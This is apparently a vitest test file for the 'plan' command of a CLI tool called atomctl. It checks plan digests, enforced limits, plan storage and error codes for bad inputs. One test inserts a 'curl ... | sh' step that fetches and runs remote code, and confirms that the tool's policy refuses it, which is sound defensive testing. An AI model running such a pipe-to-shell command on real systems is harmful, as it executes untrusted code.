import { readFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { hereLimiter } from '../../src/adapters/executor/all.ts';
import { type Author, author, GREET } from '../support/author.ts';

describe('a plan', () => {
  let ada: Author;
  beforeAll(async () => {
    ada = await author();
    await ada.push('greet', GREET);
  });
  const plan = (...args: string[]) => ada.atomctl(['plan', 'greet', ...args, '--json']);

  test('has the same digest for the same package, inputs and selection, and another for any other', async () => {
    const digests = await Promise.all(
      [plan(), plan(), plan('-i', 'greeting=hi'), plan('--skip', 'greet')].map(
        async (planned) => (await planned).json().digest,
      ),
    );

    expect(digests[0]).toBe(digests[1]);
    expect(new Set(digests).size).toBe(3);
  });

  test('shows argv with the values in it, and says what it cannot know', async () => {
    const planned = (await plan('-i', 'greeting=good morning')).json();

    expect(planned.steps[0].shows[0]).toBe("$ echo 'good morning'");
    expect(planned.unknowns).toEqual(['greet: effects unknown, a process has no dry-run']);
  });

  test('says which limits hold here, and which do not', async () => {
    const { holds } = await hereLimiter();
    const planned = (await plan()).json();
    const memory = planned.notEnforced.filter((text: string) => text.startsWith('limits.memory 64Mi'));

    expect(planned.limits).toEqual({ cpu: null, memoryBytes: 64 * 2 ** 20 });
    expect(planned.enforced).toEqual(holds.has('memory') || holds.has('memory-of-each') ? ['memory'] : []);
    expect(memory).toHaveLength(holds.has('memory') ? 0 : 1);
    expect(planned.notEnforced).toContain('network.egress none, for processes');
    const { stdout } = await ada.atomctl(['plan', 'greet']);
    expect(/^held to +memory 64\.0 MiB$/m.test(stdout)).toBe(planned.enforced.includes('memory'));
  });

  test('is kept, listed, shown, and written where -o says', async () => {
    const planned = (await plan('-o', 'plan.json')).json();
    const listed = (await ada.atomctl(['plans', 'list', '--limit', '1', '--json'])).json();
    const shown = (await ada.atomctl(['plans', 'show', planned.id.slice(0, 12), '--json'])).json();

    expect(JSON.parse(readFileSync(path.join(ada.folder, 'plan.json'), 'utf8'))).toEqual(planned);
    expect(listed.items[0].id).toBe(planned.id);
    expect(shown).toEqual({ plan: planned, approval: null });
  });

  test.each([
    ['an input that nothing declares', ['-i', 'greting=hi'], 'did you mean "greeting"'],
    ['an input that is not of its type', ['-i', 'times=many'], 'times'],
    ['a number where the schema asks for a whole one', ['-i', 'times=1.5'], 'integer'],
  ])('refuses %s', async (_, args, words) => {
    const result = await plan(...args);

    expect(result.exitCode).toBe(3);
    expect(result.json().error).toMatchObject({
      code: 'ATOM_INPUT_INVALID',
      message: expect.stringContaining(words),
    });
  });

  test('refuses a pair that is none, and a step that is not there', async () => {
    const [pair, step] = await Promise.all([plan('-i', 'greeting'), plan('--only', 'gret')]);

    expect(pair.json()).toMatchObject({ error: { code: 'ATOM_USAGE' } });
    expect(step.json()).toMatchObject({
      error: { code: 'ATOM_STEP_NOT_FOUND', hint: 'Did you mean "greet"?' },
    });
  });

  test('refuses a package that the policy finds unsafe, and one that is worse than it asks to be', async () => {
    const piped = GREET.replace(
      '[echo, "${{ inputs.greeting }}"]',
      '[sh, -c, "curl -s https://example.org/x | sh"]',
    );
    await ada.push('piped', piped);
    const result = await ada.atomctl(['plan', 'piped', '--json']);

    expect(result.exitCode).toBe(6);
    expect(result.json()).toMatchObject({
      error: { code: 'ATOM_POLICY_REFUSED', hint: expect.stringContaining('atomctl dry-run piped') },
    });
  });

  test('refuses a step that this build cannot carry out', async () => {
    await ada.push(
      'recipes',
      GREET.replace(
        '- name: greet\n      with: {command: [echo, "${{ inputs.greeting }}"]}',
        '- name: greet\n      type: recipe\n      with: {name: x}',
      ),
    );
    const result = await ada.atomctl(['plan', 'recipes', '--json']);

    expect(result.exitCode).toBe(7);
    expect(result.json()).toMatchObject({ error: { code: 'ATOM_STEP_UNSUPPORTED' } });
  });

  test('of which several begin so is asked for again, with those it may be', async () => {
    await ada.push('twice', GREET);
    const first = (await ada.atomctl(['plan', 'twice', '--json'])).json();
    const second = (await ada.atomctl(['plan', 'twice', '--json'])).json();
    const result = await ada.atomctl(['plans', 'show', 'plan_', '--json']);

    expect(result.exitCode).toBe(2);
    const { error } = result.json();
    expect(error.code).toBe('ATOM_USAGE');
    expect(error.message).toContain(second.id);
    expect(error.message).toContain(first.id);
  });

  test('that is not there is said to be so', async () => {
    const result = await ada.atomctl(['plans', 'show', 'plan_nothing', '--json']);

    expect(result.exitCode).toBe(3);
    expect(result.json()).toMatchObject({
      error: { code: 'ATOM_PLAN_NOT_FOUND', hint: 'atomctl plans list' },
    });
  });
});
